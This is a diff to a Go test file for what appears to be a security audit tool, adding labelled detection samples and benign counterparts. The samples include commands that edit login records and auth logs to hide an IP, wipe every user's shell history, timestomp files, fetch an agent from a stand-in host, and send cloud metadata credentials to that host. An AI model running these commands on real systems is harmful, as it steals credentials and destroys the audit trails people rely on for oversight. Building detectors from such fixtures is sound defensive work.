@@ -62,6 +62,28 @@ var techniqueSeeds = []stealthSeed{
 	{"imds-creds", RuleCredSend, audit.Critical, "", "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web)\ncurl -s -d \"$C\" https://203.0.113.9/c"},
 	{"imds-creds", RuleCredSend, audit.High, "", "curl -s http://169.254.169.254/latest/user-data | curl -s -T - https://203.0.113.9/ud"},
 	{"imds-creds", RuleCredSend, audit.Critical, "", "get() { curl -s -H 'Metadata-Flavor: Google' \"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/$1/token\"; }\nget default | nc 203.0.113.9 443"},
+
+	// Login records and logs edited selectively, every user's history wiped, blanket timestomping.
+	{"log-edit", RuleLogWipe, audit.High, "", "utmpdump /var/log/wtmp | grep -v 203.0.113.9 > /tmp/.w\nutmpdump -r < /tmp/.w > /var/log/wtmp"},
+	{"log-edit", RuleLogWipe, audit.High, "", "W=/var/log/wtmp\nutmpdump $W > /dev/shm/.d\nsed -i '/sysd/d' /dev/shm/.d\nutmpdump -r -o $W /dev/shm/.d"},
+	{"log-edit", RuleLogWipe, audit.High, "", "sed -i '/203\\.0\\.113\\.9/d' /var/log/auth.log"},
+	{"log-edit", RuleLogWipe, audit.High, "", "for f in /var/log/wtmp /var/log/btmp; do perl -i -pe 's/sysd/root/g' $f; done"},
+	{"log-edit", RuleLogWipe, audit.High, "", "IP=203.0.113.9\ngrep -v \"$IP\" /var/log/secure > /tmp/.s\nmv /tmp/.s /var/log/secure"},
+	{"log-edit", RuleLogWipe, audit.High, "", "clean() {\n  grep -v \"$2\" \"$1\" > \"$1.n\"\n  cat \"$1.n\" > \"$1\"\n  rm -f \"$1.n\"\n}\nclean /var/log/auth.log 203.0.113.9"},
+	{"log-edit", RuleLogWipe, audit.High, "", "L=/var/log/lastlog\ncp $L /tmp/.l\nsed -i 's/203.0.113.9/10.0.0.1/' /tmp/.l\ncp /tmp/.l $L"},
+	{"log-edit", RuleLogWipe, audit.High, "", "awk '!/sysd/' /var/log/auth.log > /var/tmp/.a && install -m 640 /var/tmp/.a /var/log/auth.log"},
+	{"history-wipe", RuleLogWipe, audit.High, "", "find /home /root -name '.*_history' -exec shred -u {} \\;"},
+	{"history-wipe", RuleLogWipe, audit.High, "", "find / -xdev -type f -name '.bash_history' -delete"},
+	{"history-wipe", RuleLogWipe, audit.High, "", "find /home -name '*history' -exec truncate -s 0 {} +"},
+	{"history-wipe", RuleLogWipe, audit.High, "", "for h in /home/*/.bash_history /home/*/.zsh_history; do : > \"$h\"; done"},
+	{"history-wipe", RuleLogWipe, audit.High, "", "rm -f /home/*/.bash_history /root/.bash_history"},
+	{"history-wipe", RuleLogWipe, audit.High, "", "for u in $(ls /home); do ln -sf /dev/null /home/$u/.bash_history; done"},
+	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find / -xdev -newer /tmp/.start -exec touch -r /bin/ls {} \\;"},
+	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find /usr/lib /etc -mmin -30 -exec touch -d '2021-06-01 03:00' {} +"},
+	{"timestomp-blanket", RuleTimestomp, audit.High, "", "REF=/etc/hostname\nfind /var/www -type f -newer $REF -exec touch -a -m -r $REF {} \\;"},
+	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find /opt -type f -exec touch -t 202101010000 {} \\;"},
+	{"timestomp-blanket", RuleTimestomp, audit.High, "", "curl -so /tmp/.x/agent http://203.0.113.9/a\ntouch -r /bin/ls /tmp/.x/agent"},
+	{"timestomp-blanket", RuleTimestomp, audit.High, "", "cp ./k /var/tmp/.cache/kd\nfor f in /var/tmp/.cache/kd; do touch --reference=/usr/bin/env \"$f\"; done"},
 }
 
 // Clean shapes: the same tools and places, the way clean software uses them.
@@ -76,6 +98,12 @@ var techniqueClean = []struct{ name, path, text string }{
 	{"own key kept", "/usr/local/bin/keygen.sh", "#!/bin/sh\nssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519\ncat ~/.ssh/id_ed25519.pub > /tmp/pub.txt\n"},
 	{"cloud-init-like read", "/usr/local/bin/instance-info.sh", "#!/bin/sh\nID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\nHN=$(curl -s http://169.254.169.254/latest/meta-data/local-hostname)\necho \"$ID $HN\" > /etc/instance-info\ncurl -s http://169.254.169.254/latest/user-data > /var/lib/cloud/user-data.txt\n"},
 	{"role credentials into the CLI's config", "/usr/local/bin/aws-env.sh", "#!/bin/sh\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\nC=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R)\nexport AWS_ACCESS_KEY_ID=$(echo \"$C\" | jq -r .AccessKeyId)\n"},
+	{"image clean-up", "/usr/local/bin/cleanup.sh", "#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/* /var/log/*\nrm -f /root/.bash_history\nhistory -c\n"},
+	{"log rotation", "/etc/cron.daily/applog", "#!/bin/sh\nsavelog -c 7 /var/log/app.log\nlogrotate /etc/logrotate.conf\n"},
+	{"log reader", "/usr/local/bin/failed.sh", "#!/bin/sh\ngrep 'Failed password' /var/log/auth.log > /tmp/failed.txt\nutmpdump /var/log/wtmp > /tmp/wtmp.txt\nlast -f /var/log/wtmp | head\n"},
+	{"own log trimmed", "/usr/local/bin/trim.sh", "#!/bin/sh\ntail -n 1000 /var/log/app/app.log > /var/log/app/app.log.tmp\nmv /var/log/app/app.log.tmp /var/log/app/app.log\n"},
+	{"build tree dated", "/build/pkg/stamp.sh", "#!/bin/sh\nfind . -type f -exec touch -d @$SOURCE_DATE_EPOCH {} +\nfind build -newer build/stamp -exec touch -r configure.ac {} +\n"},
+	{"own history", "/usr/local/bin/clean-me.sh", "#!/bin/sh\nrm -f ~/.bash_history\nfind /tmp -name '*.tmp' -delete\n"},
 }
 
 func TestTechniqueHarness(t *testing.T) {
